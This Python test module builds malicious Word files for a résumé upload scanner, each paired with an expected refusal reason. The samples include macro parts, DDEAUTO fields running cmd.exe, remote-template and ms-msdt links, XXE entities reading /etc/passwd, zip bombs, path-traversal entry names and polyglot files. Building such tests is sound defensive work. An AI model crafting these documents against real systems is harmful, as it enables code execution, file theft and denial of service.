"""Word files with programs, files, fields, entities; archives that lie."""

import stat
import struct
import zipfile
from collections.abc import Callable

from applicants.documents.refusals import Reason
from tests.applicants.applying.factories import RELATIONS, TYPES, WORD
from tests.applicants.documents.listing import MB, OLE, PE, several
from tests.applicants.documents.making import body, field, pdf, relation, shifted, with_sizes, word, zipped


def _part(extra: dict[str, bytes], **how: str) -> Callable[[], bytes]:
    return lambda: word(parts=extra, **how)


def _relation(kind: str, target: str, *, external: bool = True) -> Callable[[], bytes]:
    return lambda: word(relations=relation(kind, target, external=external))


def _renamed(name: str) -> Callable[[], bytes]:
    return lambda: zipped(
        {"[Content_Types].xml": TYPES, "_rels/.rels": RELATIONS, "word/document.xml": body(), name: b"x"}
    )


def _entity(prolog: str, text: str = "&a;", encoding: str = "utf-8") -> Callable[[], bytes]:
    document = f'<w:document xmlns:w="{WORD}"><w:body>{text}</w:body></w:document>'
    content = f'<?xml version="1.0" encoding="{encoding}"?>{prolog}{document}'
    return lambda: word(parts={"word/document.xml": content.encode(encoding)})


def _elsewhere(prolog: str) -> bytes:
    return f'<?xml version="1.0"?>{prolog}<w:hdr xmlns:w="{WORD}">&a;</w:hdr>'.encode()


def _lying(unpacked: int) -> bytes:
    """Its list says that a part is small; it is not."""
    return with_sizes(word(parts={"word/styles.xml": b" " * 3 * MB}), b"word/styles.xml", unpacked=unpacked)


def _overlapping() -> bytes:
    """Many entries of the list, one set of bytes."""
    content = bytearray(
        zipped(
            [
                ("[Content_Types].xml", TYPES),
                ("_rels/.rels", RELATIONS),
                ("word/document.xml", body()),
                *[(f"word/a{n}.xml", b"<a/>") for n in range(20)],
            ]
        )
    )
    at, first = content.find(b"PK\x01\x02"), None
    while at >= 0:
        name, extra, remark = struct.unpack_from("<HHH", content, at + 28)
        if content[at + 46 : at + 52] == b"word/a":
            first = first if first is not None else struct.unpack_from("<L", content, at + 42)[0]
            struct.pack_into("<L", content, at + 42, first)
        at = content.find(b"PK\x01\x02", at + 46 + name + extra + remark)
    return bytes(content)


def _link_entry(entry: zipfile.ZipInfo) -> None:
    if entry.filename.endswith("styles.xml"):
        entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16


def _bzip(entry: zipfile.ZipInfo) -> None:
    entry.compress_type = zipfile.ZIP_BZIP2


def _hidden_between() -> bytes:
    """Bytes between the last entry and the list, which no list names."""
    content = word()
    at = content.find(b"PK\x01\x02")
    end = content.rfind(b"PK\x05\x06")
    out = bytearray(content[:at] + PE + content[at:])
    struct.pack_into("<L", out, end + len(PE) + 16, at + len(PE))
    return bytes(out)


def _other_local_name() -> bytes:
    content = word(parts={"word/styles.xml": b"<a/>"})
    return content.replace(b"word/styles.xml", b"word/macros.bin", 1)


NO_TWICE = [("[Content_Types].xml", TYPES), ("_rels/.rels", RELATIONS), ("word/document.xml", body())]
WORDS = [
    *several(
        "Word with macros",
        Reason.MACROS,
        {
            "vbaProject.bin": _part({"word/vbaProject.bin": b"x"}),
            "vbaData.xml": _part({"word/vbaData.xml": b"<a/>"}),
            "under another folder": _part({"macros/VBAPROJECT.BIN": b"x"}),
            "DOCM": lambda: zipped(
                {
                    "[Content_Types].xml": TYPES.replace(
                        b"vnd.openxmlformats-officedocument.wordprocessingml.document.main",
                        b"vnd.ms-word.document.macroEnabled.main",
                    ),
                    "_rels/.rels": RELATIONS,
                    "word/document.xml": body(),
                }
            ),
            "a part of macros by its type": lambda: word(
                types='<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/>',
                parts={"word/a.xml": b"<a/>"},
            ),
            "a relation to macros": lambda: word(
                relations='<Relationship Id="a" Type="http://schemas.microsoft.com/x/vbaProject" Target="a.xml"/>'
            ),
        },
        "resume.docx",
    ),
    *several(
        "Word with files",
        Reason.INSIDE,
        {
            "an OLE object": _part({"word/embeddings/oleObject1.bin": OLE}),
            "a package": _part({"word/embeddings/a.xlsx": b"PK"}),
            "ActiveX": _part({"word/activeX/activeX1.xml": b"<a/>"}),
            "ActiveX's bytes": _part({"word/activeX/activeX1.bin": b"x"}),
            "a ribbon of its own": _part({"customUI/customUI.xml": b"<a/>"}),
            "an EXE": _part({"word/media/a.exe": PE}),
            "a script": _part({"word/media/a.js": b"x"}),
            "an archive": lambda: word(parts={"word/media/a.zip": zipped({"a": b"b"})}),
            "HTML": _part({"word/afchunk.htm": b"<html>"}),
            "a part without an ending": _part({"word/media/a": b"x"}),
            "an EXE that calls itself a picture": _part({"word/media/a.png": PE}),
            "an archive that calls itself a picture": lambda: word(parts={"word/media/a.jpeg": zipped({"a": b"b"})}),
            "a PDF that calls itself a picture": lambda: word(parts={"word/media/a.jpeg": pdf()}),
            "an OLE file that calls itself a font": _part({"word/fonts/a.odttf": OLE}),
            "a relation to an OLE object": _relation("oleObject", "media/a.png", external=False),
            "a relation to HTML": _relation("aFChunk", "a.xml", external=False),
            "a relation to a control": _relation("control", "a.xml", external=False),
            "a relation to a package": _relation("package", "a.xml", external=False),
            "an element of OLE": lambda: word(
                '<w:p><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"/></w:p>'
            ),
            "an element that takes HTML in": lambda: word("<w:altChunk/>"),
            "an element of a control": lambda: word("<w:p><w:control/></w:p>"),
            "a part of it": lambda: word("<w:subDoc/>"),
            "a picture with a script": _part(
                {"word/media/a.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'}
            ),
            "a picture that acts": _part(
                {"word/media/a.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'}
            ),
            "an ActiveX by its type": lambda: word(
                types='<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
                parts={"word/a.xml": b"<a/>"},
            ),
        },
        "resume.docx",
    ),
    *several(
        "Word that fetches",
        Reason.OUTSIDE,
        {
            "a template from the web": _relation("attachedTemplate", "http://x.example/a.dotm"),
            "a template from a share": _relation("attachedTemplate", r"\\host\share\a.dotm"),
            "a template from a share, as a file": _relation("attachedTemplate", "file://host/share/a.dotm"),
            "a template by four slashes": _relation("attachedTemplate", "file:////host/a.dotm"),
            "an object from the web": _relation("image", "http://x.example/a.png"),
            "a picture from a share": _relation("image", r"\\host\a.png"),
            "a frame": _relation("frame", "http://x.example/"),
            "a subdocument": _relation("subDocument", "http://x.example/a.docx"),
            "styles from elsewhere": _relation("styles", "http://x.example/s.xml"),
            "settings from elsewhere": _relation("settings", "file:///etc/passwd"),
            "a link to a file": _relation("hyperlink", "file:///c:/windows/system32/calc.exe"),
            "a link to a share": _relation("hyperlink", r"\\host\share"),
            "a link of JavaScript": _relation("hyperlink", "javascript:alert(1)"),
            "a link of VBScript": _relation("hyperlink", "vbscript:x"),
            "a link of data": _relation("hyperlink", "data:text/html,x"),
            "a link that starts an app": _relation("hyperlink", "ms-msdt:/id PCWDiagnostic"),
            "a link by mhtml": _relation("hyperlink", "mhtml:http://x!y"),
            "a page of the web inside": _relation("image", "file:///etc/passwd", external=False),
            "a share inside": _relation("image", r"\\host\a", external=False),
            "a host inside": _relation("image", "//host/a", external=False),
            "a template in the header's relations": lambda: word(
                parts={"word/_rels/header1.xml.rels": _table(relation("attachedTemplate", "https://x.example/a"))}
            ),
            "a template in the settings' relations": lambda: word(
                parts={"word/_rels/settings.xml.rels": _table(relation("attachedTemplate", "https://x.example/a"))}
            ),
        },
        "resume.docx",
    ),
    *several(
        "Word with an object elsewhere",
        Reason.INSIDE,
        {"an OLE object from the web": _relation("oleObject", "http://x.example/a.htm!x")},
        "resume.docx",
    ),
    *several(
        "Word with fields",
        Reason.FIELDS,
        {
            "DDEAUTO": lambda: word(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
            "DDE": lambda: word(field('DDE "excel" "a"')),
            "in small letters": lambda: word(field("ddeauto x")),
            "in two pieces": lambda: word(field("DD</w:instrText></w:r><w:r><w:instrText>EAUTO x")),
            "in its short form": lambda: word('<w:p><w:fldSimple w:instr=" DDEAUTO x "/></w:p>'),
            "its name in quotes": lambda: word(field('"DDEAUTO" x')),
            "its name made by a field": lambda: word(
                '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                + field("QUOTE 68 68 69")
                + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            ),
            "without an end": lambda: word(
                '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE x</w:instrText></w:r></w:p>'
            ),
            "INCLUDETEXT": lambda: word(field('INCLUDETEXT "http://x.example/a"')),
            "INCLUDEPICTURE": lambda: word(field('INCLUDEPICTURE "http://x.example/a"')),
            "LINK": lambda: word(field('LINK Excel.Sheet "a"')),
            "IMPORT": lambda: word(field('IMPORT "//host/a"')),
            "DATABASE": lambda: word(field("DATABASE \\d x")),
            "in a header": lambda: word(parts={"word/header1.xml": _header(field("DDEAUTO x"))}),
        },
        "resume.docx",
    ),
    *several(
        "Word with entities",
        Reason.WORD_BROKEN,
        {
            "an entity": _entity('<!DOCTYPE x [<!ENTITY a "b">]>'),
            "a billion laughs": _entity('<!DOCTYPE x [<!ENTITY b "haha"><!ENTITY a "&b;&b;&b;&b;&b;&b;">]>'),
            "an entity from a file": _entity('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
            "an entity from the web": _entity('<!DOCTYPE x [<!ENTITY a SYSTEM "http://x.example/">]>'),
            "a parameter entity": _entity('<!DOCTYPE x [<!ENTITY % a SYSTEM "http://x.example/"> %a;]>', ""),
            "a DTD of elsewhere": _entity('<!DOCTYPE x SYSTEM "http://x.example/a.dtd">', ""),
            "in UTF-16": _entity('<!DOCTYPE x [<!ENTITY a "b">]>', encoding="utf-16"),
            "in the types": lambda: zipped(
                {
                    "[Content_Types].xml": b'<!DOCTYPE x [<!ENTITY a "b">]>' + TYPES.split(b"?>", 1)[1],
                    "_rels/.rels": RELATIONS,
                    "word/document.xml": body(),
                }
            ),
            "in the relations": lambda: zipped(
                {
                    "[Content_Types].xml": TYPES,
                    "_rels/.rels": b'<!DOCTYPE x [<!ENTITY a "b">]>' + RELATIONS.split(b"?>", 1)[1],
                    "word/document.xml": body(),
                }
            ),
            "in a header": lambda: word(parts={"word/header1.xml": _elsewhere('<!DOCTYPE x [<!ENTITY a "b">]>')}),
            "quadratic": _entity('<!DOCTYPE x [<!ENTITY a "' + "b" * 50_000 + '">]>', "&a;" * 1000),
        },
        "resume.docx",
    ),
    *several(
        "Word bomb",
        Reason.BOMB,
        {
            "a part of 8 MB of naughts": _part({"word/media/a.bmp": bytes(8 * MB)}),
            "many parts of 4 MB": lambda: word(
                parts={
                    f"word/media/{n}.bmp": (bytes(range(256)) * 16 + bytes(MB // 4)) * 1 + bytes(4 * MB)
                    for n in range(20)
                }
            ),
            "2,100 parts": lambda: word(parts={f"word/media/{n}.png": b"" for n in range(2100)}),
            "entries that share their bytes": _overlapping,
            "types of 2 MB": lambda: word(types="<Default/>" + " " * 2 * MB),
            "relations of 2 MB": lambda: word(relations=" " * 2 * MB),
            "elements 500 deep": lambda: word("<w:p>" * 500 + "</w:p>" * 500),
            "an archive in itself": lambda: word(parts={"word/media/a.png": bytes(20 * MB)}),
        },
        "resume.docx",
    ),
    *several(
        "Word bomb",
        (Reason.BOMB, Reason.WORD_BROKEN),
        {
            "a list that lies of a size": lambda: _lying(100),
            "a list that says nothing": lambda: _lying(0),
            "a list that says 4 GB": lambda: _lying(0xFFFFFFF0),
        },
        "resume.docx",
    ),
    *several(
        "Word broken",
        (Reason.WORD_BROKEN, Reason.NOT_WORD),
        {
            "not an archive": b"PK\x03\x04 not an archive",
            "cut in the middle": lambda: word()[: len(word()) // 2],
            "no list": lambda: word()[: word().rfind(b"PK\x01\x02")],
            "the main part is HTML": lambda: word(parts={"word/document.xml": b"<html/>"}),
            "the main part is no XML": lambda: word(parts={"word/document.xml": b"hello"}),
            "the main part breaks off": lambda: word(parts={"word/document.xml": body()[:-20]}),
            "the main part is empty": lambda: word(parts={"word/document.xml": b""}),
            "the main part of another family": lambda: word(parts={"word/document.xml": b'<document xmlns="urn:x"/>'}),
            "its bytes do not fit their sum": lambda: _flipped(),
            "two main parts": lambda: word(
                parts={"_rels/.rels": RELATIONS.replace(b"</Relationships>", RELATIONS.split(b"\n", 1)[1])}
            ),
            "a main part elsewhere": lambda: word(
                parts={"_rels/.rels": RELATIONS.replace(b"word/document.xml", b"http://x.example/")}
            ),
            "packed by bzip2": lambda: zipped(NO_TWICE, change=_bzip),
        },
        "resume.docx",
    ),
    *several(
        "Word with paths",
        Reason.WORD_BROKEN,
        {
            "out of the folder": _renamed("../../etc/cron.d/a.xml"),
            "from the root": _renamed("/etc/passwd.xml"),
            "a drive": _renamed("C:/windows/a.xml"),
            "backslashes": _renamed("..\\..\\a.xml"),
            "dots in the middle": _renamed("word/../../a.xml"),
            "a line feed": _renamed("word/a\n.xml"),
            "a name of 300 characters": _renamed("word/" + "a" * 300 + ".xml"),
            "a link": lambda: zipped([*NO_TWICE, ("word/styles.xml", b"/etc/passwd")], change=_link_entry),
            "a part twice in two cases": lambda: zipped([*NO_TWICE, ("word/DOCUMENT.xml", body())]),
            "another name in the entry than in the list": _other_local_name,
        },
        "resume.docx",
    ),
    *several(
        "Word locked",
        Reason.LOCKED,
        {
            "entries locked": lambda: with_sizes(word(), b"word/document.xml", flags=1),
            "entries locked strongly": lambda: with_sizes(word(), b"word/document.xml", flags=0x41),
        },
        "resume.docx",
    ),
    *several(
        "two kinds",
        Reason.TWO_KINDS,
        {
            "bytes between Word's parts": _hidden_between,
            "a PE behind a Word file": lambda: word() + PE,
            "a PDF behind a Word file": lambda: word() + pdf(),
            "HTML behind a Word file": lambda: word() + b"<script>1</script>",
            "a Word file whose list is moved": lambda: shifted(word(), b"PK\x03\x04" + bytes(40)),
            "an archive behind a Word file": lambda: word() + zipped({"a": b"b"}),
            "a long remark": lambda: _remark(b"a" * 300),
            "a remark of bytes": lambda: _remark(PE),
            "a page in a remark": lambda: _remark(b"<script>" + b"x" * 300),
        },
        "resume.docx",
    ),
    *several(
        "two kinds",
        (Reason.TWO_KINDS, Reason.UNREADABLE, Reason.WEB_PAGE),
        {
            "words in front of a Word file": lambda: shifted(word(), b"hello "),
            "HTML in front of a Word file": lambda: shifted(word(), b"<html><script>1</script>"),
            "a batch file in front of a Word file": lambda: shifted(word(), b"@echo off\r\n"),
        },
        "resume.docx",
    ),
]


def _remark(remark: bytes) -> bytes:
    content = word()
    return content[:-2] + struct.pack("<H", len(remark)) + remark


def _flipped() -> bytes:
    content = bytearray(zipped([*NO_TWICE, ("word/styles.xml", b"<styles/>")], zipfile.ZIP_STORED))
    content[content.find(b"<styles/>") + 1] = ord("S")
    return bytes(content)


def _table(relations: str) -> bytes:
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relations}</Relationships>'.encode()


def _header(inner: str) -> bytes:
    return f'<w:hdr xmlns:w="{WORD}">{inner}</w:hdr>'.encode()
